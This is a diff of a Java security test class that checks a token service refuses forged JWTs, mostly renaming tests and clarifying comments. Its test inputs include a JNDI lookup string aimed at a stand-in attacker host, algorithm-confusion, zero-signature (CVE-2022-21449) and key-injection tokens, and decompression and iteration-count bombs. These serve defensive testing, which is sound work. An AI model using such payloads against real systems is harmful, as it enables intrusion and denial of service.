@@ -1,7 +1,7 @@
 package io.latchkey.security;
 
+import static io.latchkey.security.TokenCalls.accepted;
 import static io.latchkey.security.TokenCalls.refused;
-import static io.latchkey.security.TokenCalls.taken;
 import static io.restassured.RestAssured.given;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertInstanceOf;
@@ -37,35 +37,35 @@ import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 /**
- * What an attacker makes of a token without the issuer's keys, or makes an issuer sign: its header, its signature, its
- * parts. One thing about a good token is changed at a time.
+ * Tokens that an attacker changes without the issuer's keys, or has an issuer sign. Each test changes one property of a valid
+ * token: a header, the signature or a part.
  */
 @QuarkusTest
 class ForgedTokensTest {
 
     private static final PublicJsonWebKey FOREIGN = foreignKey();
 
-    /** As much as fits into the header of a request beside everything else. */
+    /** About as much as fits into the headers of a request. */
     private static final int DEEP = 9_000;
 
     @TempDir
     static Path directory;
 
     @Test
-    void goodParts_areTaken() {
-        taken(RawToken.of(good()).sign());
+    void unchangedParts_areAccepted() {
+        accepted(RawToken.of(valid()).sign());
     }
 
     @ParameterizedTest
     @ValueSource(strings = {"HS256", "HS384", "HS512"})
-    void publicKey_asAnySecret_isRefused(String algorithm) {
+    void publicKey_asHmacSecret_isRefused(String algorithm) {
         byte[] secret = key("RSA").getPublicKey().getEncoded();
-        refused(good().header("alg", algorithm).signedWith(new SecretKeySpec(secret, "HmacSHA256")));
+        refused(valid().header("alg", algorithm).signedWith(new SecretKeySpec(secret, "HmacSHA256")));
     }
 
     @ParameterizedTest
     @ValueSource(strings = {"rs256", "RS256 ", "", "RS256,none", "\u0000", "ES256K", "RSA1_5", "dir"})
-    void algorithmThatIsNone_isRefused(String algorithm) {
+    void unknownAlgorithm_isRefused(String algorithm) {
         refused(changed("\"RS256\"", quoted(algorithm)).sign());
     }
 
@@ -94,18 +94,18 @@ class ForgedTokensTest {
                 "${jndi:ldap://attacker.example/a}",
                 "*"
             })
-    void keyIdThatIsMoreThanAName_isRefused(String kid) {
+    void maliciousKeyId_isRefused(String kid) {
         refused(changed("\"dev1\"", quoted(kid)).sign());
     }
 
-    /** Neither the key nor the address is trusted, and the address is not even asked. */
+    /** Neither the key nor the address is trusted, and no request is sent to it. */
     @ParameterizedTest
     @ValueSource(strings = {"jku", "x5u"})
-    void keysElsewhere_areNotFetched(String header) {
+    void keysAtAnotherAddress_areNotFetched(String header) {
         try (KeyServer attacker = KeyServer.start()) {
             attacker.publish(FOREIGN);
             for (String kid : List.of("dev1", FOREIGN.getKeyId())) {
-                refused(good().signedWith(FOREIGN.getPrivateKey())
+                refused(valid().signedWith(FOREIGN.getPrivateKey())
                         .header("kid", kid)
                         .header(header, attacker.address()));
             }
@@ -114,15 +114,15 @@ class ForgedTokensTest {
     }
 
     @Test
-    void keyBroughtAlong_underItsOwnName_isRefused() {
+    void keyInTheToken_underItsOwnId_isRefused() {
         Map<String, Object> jwk = FOREIGN.toParams(OutputControlLevel.PUBLIC_ONLY);
-        refused(good().signedWith(FOREIGN.getPrivateKey())
+        refused(valid().signedWith(FOREIGN.getPrivateKey())
                 .header("kid", FOREIGN.getKeyId())
                 .header("jwk", jwk));
     }
 
     @Test
-    void certificateBroughtAlong_isNotTrusted() throws Exception {
+    void certificateInTheToken_isNotTrusted() throws Exception {
         KeyStore store = Certificates.selfSigned(directory, "issuer.example");
         PrivateKey key = (PrivateKey) store.getKey(Certificates.ALIAS, Certificates.PASSWORD);
         byte[] certificate = store.getCertificate(Certificates.ALIAS).getEncoded();
@@ -130,12 +130,12 @@ class ForgedTokensTest {
         String thumbprint = Base64.getUrlEncoder()
                 .withoutPadding()
                 .encodeToString(MessageDigest.getInstance("SHA-256").digest(certificate));
-        refused(good().signedWith(key).header("x5c", chain));
-        refused(good().signedWith(key).header("x5c", chain).header("kid", null));
-        refused(good().signedWith(key).header("x5t#S256", thumbprint));
+        refused(valid().signedWith(key).header("x5c", chain));
+        refused(valid().signedWith(key).header("x5c", chain).header("kid", null));
+        refused(valid().signedWith(key).header("x5t#S256", thumbprint));
     }
 
-    /** Whoever signs may mean well; the service understands no extension, and RFC 7515 §4.1.11 has it say so. */
+    /** The service supports no extension, and must therefore refuse it (RFC 7515 §4.1.11). */
     @ParameterizedTest
     @CsvSource(
             delimiter = '|',
@@ -167,16 +167,16 @@ class ForgedTokensTest {
         refused(extended("\"typ\":\"at+jwt\"").sign());
     }
 
-    /** An access token is signed and nothing else (RFC 9068 §2.1); the inner one would escape what the outer says. */
+    /** An access token is only signed (RFC 9068 §2.1); an inner token would escape the checks of the outer header. */
     @Test
-    void tokenWithinAToken_isRefused() {
-        String nested = good().sign();
+    void nestedToken_isRefused() {
+        String nested = valid().sign();
         RawToken around = extended("\"cty\":\"JWT\"").payload(payload -> nested);
         refused(around.sign());
         refused(around.sign(foreignPrivateKey()));
         refused(around.header(header -> header.replace("RS256", "none")).withSignature(new byte[0]));
         refused(extended("\"cty\":\"JWT\"")
-                .payload(payload -> RawToken.of(good()).sign(foreignPrivateKey()))
+                .payload(payload -> RawToken.of(valid()).sign(foreignPrivateKey()))
                 .sign());
     }
 
@@ -194,12 +194,12 @@ class ForgedTokensTest {
         encrypted.setEncryptionMethodHeaderParameter(encryption);
         encrypted.setAlgorithmConstraints(org.jose4j.jwa.AlgorithmConstraints.NO_CONSTRAINTS);
         encrypted.setKey(new SecretKeySpec(new byte[keyBytes], "AES"));
-        encrypted.setPayload(RawToken.of(good()).payload());
+        encrypted.setPayload(RawToken.of(valid()).payload());
         refused(encrypted.getCompactSerialization());
     }
 
     @Test
-    void encryptedForThePublicKeyOfTheIssuer_isRefused() throws JoseException {
+    void tokenEncryptedForTheIssuersKey_isRefused() throws JoseException {
         JsonWebEncryption encrypted = new JsonWebEncryption();
         encrypted.setHeader("typ", "at+jwt");
         encrypted.setHeader("cty", "JWT");
@@ -207,29 +207,29 @@ class ForgedTokensTest {
         encrypted.setAlgorithmHeaderValue("RSA-OAEP-256");
         encrypted.setEncryptionMethodHeaderParameter("A256GCM");
         encrypted.setKey(key("RSA").getPublicKey());
-        encrypted.setPayload(good().sign());
+        encrypted.setPayload(valid().sign());
         refused(encrypted.getCompactSerialization());
     }
 
-    /** A cost that the caller names, and a bomb: neither is begun with. */
+    /** An iteration count that the caller chooses, and a decompression bomb. */
     @Test
-    void encryptionThatCosts_isNotBegun() {
+    void expensiveDecryption_isNotStarted() {
         String costly =
                 "{\"alg\":\"PBES2-HS256+A128KW\",\"enc\":\"A128GCM\",\"p2c\":2147483647,\"p2s\":\"c2FsdHNhbHQ\"}";
         String bomb = "{\"alg\":\"dir\",\"enc\":\"A128GCM\",\"zip\":\"DEF\"}";
-        long begun = System.nanoTime();
+        long start = System.nanoTime();
         for (String header : List.of(costly, bomb)) {
             String encoded =
                     Base64.getUrlEncoder().withoutPadding().encodeToString(header.getBytes(StandardCharsets.UTF_8));
             refused(encoded + ".AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA.AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA");
         }
-        assertEquals(0, (System.nanoTime() - begun) / 10_000_000_000L, "of ten seconds");
+        assertEquals(0, (System.nanoTime() - start) / 10_000_000_000L, "took ten seconds or more");
     }
 
-    /** CVE-2022-21449: r and s are zero, and so is everything that is compared. */
+    /** CVE-2022-21449: r and s are zero. */
     @Test
     void emptySignatureOfEs256_isRefused() {
-        RawToken token = RawToken.of(good().signedBy(key("EC"), "ES256"));
+        RawToken token = RawToken.of(valid().signedBy(key("EC"), "ES256"));
         refused(token.withSignature(new byte[64]));
         refused(token.withSignature(new byte[0]));
         refused(token.withSignature(new byte[] {0x30, 0x06, 0x02, 0x01, 0, 0x02, 0x01, 0}));
@@ -237,8 +237,8 @@ class ForgedTokensTest {
 
     @Test
     void signatureOfEs256_inAnotherForm_isRefused() throws Exception {
-        String good = good().signedBy(key("EC"), "ES256").sign();
-        taken(good);
+        String good = valid().signedBy(key("EC"), "ES256").sign();
+        accepted(good);
         byte[] signature = Base64.getUrlDecoder().decode(good.substring(good.lastIndexOf('.') + 1));
         refused(good.substring(0, good.lastIndexOf('.') + 1)
                 + Base64.getUrlEncoder()
@@ -249,14 +249,14 @@ class ForgedTokensTest {
     @ParameterizedTest
     @CsvSource({"RSA, RS256, 256", "RSA, PS256, 256", "EC, ES256, 64", "OKP, EdDSA, 64"})
     void signatureOfZeroes_isRefused(String type, String algorithm, int bytes) {
-        DevelopmentToken token = good().signedBy(key(type), algorithm);
-        taken(token);
+        DevelopmentToken token = valid().signedBy(key(type), algorithm);
+        accepted(token);
         refused(RawToken.of(token).withSignature(new byte[bytes]));
     }
 
     @Test
-    void partsThatAreTooManyOrTooFew_areRefused() {
-        String good = good().sign();
+    void wrongNumberOfParts_isRefused() {
+        String good = valid().sign();
         refused(good + ".");
         refused(good + ".AAAA");
         refused("." + good);
@@ -267,32 +267,32 @@ class ForgedTokensTest {
         refused("{\"payload\":\"e30\",\"signatures\":[]}");
     }
 
-    /** Headers are read before any signature is checked. */
+    /** Headers are parsed before the signature is verified. */
     @Test
-    void headerThatIsDeep_isRefused() {
+    void deeplyNestedHeader_isRefused() {
         refused(extended("\"x\":" + "[".repeat(DEEP) + "]".repeat(DEEP / 2)).withSignature(new byte[256]));
         refused(extended("\"x\":" + "{\"x\":".repeat(DEEP / 4)).withSignature(new byte[256]));
     }
 
     @Test
-    void headerThatIsNoObject_isRefused() {
+    void headerThatIsNotAnObject_isRefused() {
         for (String header : List.of("", "null", "[]", "\"RS256\"", "{", "{}", "\uFEFF{}", "{\"alg\":\"RS256\"}}")) {
-            refused(new RawToken(header, RawToken.of(good()).payload()).sign());
+            refused(new RawToken(header, RawToken.of(valid()).payload()).sign());
         }
     }
 
     /** The HTTP server reads no more than 20 KiB of headers. */
     @Test
     void oversizedToken_isNotRead() {
-        taken(good().claim("padding", "x".repeat(10_000)));
-        tooLarge(good().claim("padding", "x".repeat(16_000)).sign());
+        accepted(valid().claim("padding", "x".repeat(10_000)));
+        tooLarge(valid().claim("padding", "x".repeat(16_000)).sign());
         tooLarge("x".repeat(100_000));
-        taken(good());
+        accepted(valid());
     }
 
     /**
-     * Of which the document says nothing, as no operation is reached. The server hangs up while the rest is still on its way:
-     * whether its answer is read before the broken connection is seen is a matter of luck.
+     * Not checked against the OpenAPI document: no operation is reached. The server closes the connection while the request is
+     * still being sent, so that the client may see either the answer or the closed connection.
      */
     private static void tooLarge(String token) {
         try {
@@ -302,25 +302,25 @@ class ForgedTokensTest {
                     .get(Calls.AUDIT_EVENTS)
                     .then()
                     .statusCode(431);
-        } catch (Exception hungUp) {
-            assertInstanceOf(IOException.class, hungUp);
+        } catch (Exception closed) {
+            assertInstanceOf(IOException.class, closed);
         }
     }
 
     private static RawToken extended(String members) {
-        return RawToken.of(good())
+        return RawToken.of(valid())
                 .header(header -> header.replaceFirst("}$", "," + members.replace("\\", "\\\\") + "}"));
     }
 
     private static RawToken changed(String from, String to) {
-        return RawToken.of(good()).header(header -> header.replace(from, to));
+        return RawToken.of(valid()).header(header -> header.replace(from, to));
     }
 
     private static String quoted(String text) {
         return io.vertx.core.json.Json.encode(text);
     }
 
-    private static DevelopmentToken good() {
+    private static DevelopmentToken valid() {
         return Tokens.auditor();
     }
 
